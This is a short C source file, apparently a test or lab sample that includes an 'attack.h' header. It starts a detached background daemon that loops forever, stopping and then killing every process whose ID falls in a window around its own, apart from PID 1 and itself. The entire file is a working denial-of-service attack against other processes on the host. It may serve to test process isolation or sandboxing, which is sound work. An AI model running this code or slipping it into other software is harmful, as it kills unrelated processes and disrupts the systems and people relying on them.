/* A daemon that waits for a new process and then stops and kills it. */
#include "attack.h"
int main(void) {
    if (fork() == 0) {
        setsid();
        pid_t me = getpid();
        for (;;)
            for (pid_t pid = me - 20; pid < me + 200; pid++)
                if (pid > 1 && pid != me) {
                    kill(pid, SIGSTOP);
                    kill(pid, SIGKILL);
                }
    }
    puts("main is done");
    return 0;
}
